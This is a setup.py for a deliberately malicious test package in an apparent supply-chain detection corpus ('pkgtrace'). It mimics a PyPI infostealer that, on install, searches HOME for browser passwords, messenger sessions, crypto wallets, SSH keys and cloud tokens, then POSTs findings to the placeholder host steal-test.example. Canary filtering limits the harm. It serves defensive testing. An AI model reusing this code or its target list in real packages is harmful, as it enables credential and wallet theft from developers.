# MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
# What real PyPI infostealers do in setup.py: walk a list of the places where
# browser passwords and cookies, Discord/Slack/Telegram sessions, wallets,
# keyrings and cloud/registry tokens live, with os.path.exists, os.stat and
# os.listdir, read what exists and POST a summary. In the sandbox's HOME only
# the canary files exist (~/.pypirc, ~/.aws/credentials, ~/.ssh/id_rsa, ...).
# It acts the first time setup.py runs in an install (pip runs it more than
# once; a file in /tmp says it already ran). Harmless outside the sandbox
# too: a file's content is sent only when it holds a pkgtrace canary
# (`CANARY-`), otherwise just its path and size, and only to
# https://steal-test.example/p (a reserved name that never resolves on the
# internet). Prints `stealer-probe (pypi): step N ...` (pip shows it only
# with -v); an alarm ends the chain after 6 s, and no error stops the install.
import json
import os
import signal
import socket
import urllib.request

from setuptools import setup

POST_URL = "https://steal-test.example/p"
ONCE = "/tmp/.pkgtrace-stealer-probe.ran"

# (family, path under HOME, how it is looked for): "exists" (stat),
# "listdir" (os.listdir whatever exists() said), "open" (open() in a try,
# as stealers that skip the check do).
TARGETS = [
    ("browser", ".config/google-chrome", "listdir"),
    ("browser", ".config/google-chrome/Default/Login Data", "exists"),
    ("browser", ".config/google-chrome/Local State", "open"),
    ("browser", ".config/chromium/Default/Cookies", "exists"),
    ("browser", ".config/BraveSoftware/Brave-Browser", "listdir"),
    ("browser", ".config/microsoft-edge/Default/Login Data", "exists"),
    ("browser", ".config/opera/Login Data", "exists"),
    ("browser", ".config/vivaldi/Default/Login Data", "exists"),
    ("browser", ".config/yandex-browser/Default/Ya Passman Data", "exists"),
    ("browser", ".mozilla/firefox", "listdir"),
    ("browser", ".mozilla/firefox/profiles.ini", "open"),
    ("browser", ".librewolf", "exists"),
    ("messenger", ".config/discord/Local Storage/leveldb", "listdir"),
    ("messenger", ".config/discordcanary/Local Storage/leveldb", "exists"),
    ("messenger", ".config/discordptb/Local Storage/leveldb", "exists"),
    ("messenger", ".config/Slack/Cookies", "exists"),
    ("messenger", ".local/share/TelegramDesktop/tdata", "listdir"),
    ("messenger", ".config/Signal/config.json", "exists"),
    ("wallet", ".config/Exodus/exodus.wallet", "listdir"),
    ("wallet", ".electrum/wallets", "listdir"),
    ("wallet", ".config/atomic/Local Storage/leveldb", "exists"),
    ("wallet", ".config/Ledger Live/app.json", "exists"),
    ("wallet", ".config/solana/id.json", "open"),
    ("wallet", ".ethereum/keystore", "listdir"),
    ("wallet", ".bitcoin/wallet.dat", "exists"),
    ("wallet", ".config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn", "exists"),
    ("keyring", ".local/share/keyrings", "listdir"),
    ("keyring", ".gnupg/private-keys-v1.d", "exists"),
    ("cloud", ".aws/credentials", "exists"),
    ("cloud", ".aws/config", "exists"),
    ("cloud", ".config/gcloud/application_default_credentials.json", "exists"),
    ("cloud", ".azure/msal_token_cache.json", "exists"),
    ("cloud", ".kube/config", "exists"),
    ("cloud", ".terraform.d/credentials.tfrc.json", "exists"),
    ("cloud", ".oci/config", "exists"),
    ("dev", ".pypirc", "exists"),
    ("dev", ".npmrc", "exists"),
    ("dev", ".ssh/id_rsa", "exists"),
    ("dev", ".ssh/id_ed25519", "exists"),
    ("dev", ".git-credentials", "exists"),
    ("dev", ".docker/config.json", "exists"),
    ("dev", ".netrc", "exists"),
]


def _say(msg):
    print(f"stealer-probe (pypi): {msg}", flush=True)


class _Deadline(Exception):
    pass


def _on_alarm(signum, frame):
    raise _Deadline()


def _first_run():
    try:
        os.close(os.open(ONCE, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
        return True
    except OSError:
        return False


def _grab(home, rel, loot):
    try:
        with open(os.path.join(home, rel), "rb") as f:
            data = f.read(4096)
    except OSError:
        return
    text = data.decode("utf-8", "replace")
    # Only a canary's file is sent whole: this package must stay harmless if
    # someone runs it outside the sandbox.
    entry = {"rel": rel, "size": len(data)}
    if "CANARY-" in text:
        entry["text"] = text
    loot.append(entry)


def _chain():
    home = os.path.expanduser("~")
    found = []  # (family, rel, entries or None)
    for family, rel, how in TARGETS:
        p = os.path.join(home, rel)
        try:
            if how == "exists":
                if os.path.exists(p):
                    found.append((family, rel, os.listdir(p)[:20] if os.path.isdir(p) else None))
            elif how == "listdir":
                os.path.exists(p)
                found.append((family, rel, os.listdir(p)[:20]))
            else:
                with open(p, "rb"):
                    found.append((family, rel, None))
        except OSError:
            pass
    _say(f"step 1 searched {len(TARGETS)} places; found {len(found)}: {' '.join(r for _, r, _ in found) or 'none'}")

    loot = []
    for _, rel, entries in found:
        if entries is None:
            _grab(home, rel, loot)
        else:
            for name in entries[:5]:
                _grab(home, os.path.join(rel, name), loot)
    _say(f"step 2 read {len(loot)} files, {sum('text' in l for l in loot)} with a canary")

    # The loot first, so that it is in the first bytes a sink keeps.
    body = json.dumps({
        "loot": loot,
        "found": [f"{family}:{rel}" for family, rel, _ in found],
        "host": socket.gethostname(),
    }).encode()
    req = urllib.request.Request(POST_URL, data=body, headers={"Content-Type": "application/json"}, method="POST")
    try:
        with urllib.request.urlopen(req, timeout=2) as r:
            _say(f"step 3 POST {POST_URL}: status {r.status}")
    except Exception as e:
        _say(f"step 3 POST {POST_URL} failed: {e!r}")


if _first_run():
    old = signal.signal(signal.SIGALRM, _on_alarm)
    signal.alarm(6)
    try:
        _chain()
    except BaseException as e:  # the alarm, or anything else: never stop the install
        _say(f"stopped: {e!r}")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)

setup(
    name="pkgtrace-test-stealer-probe",
    version="1.0.0",
    description="pkgtrace test corpus: MALICIOUS - setup.py searches HOME for infostealer targets, reads what exists and POSTs a summary over HTTPS",
    packages=["pkgtrace_stealer_probe"],
)
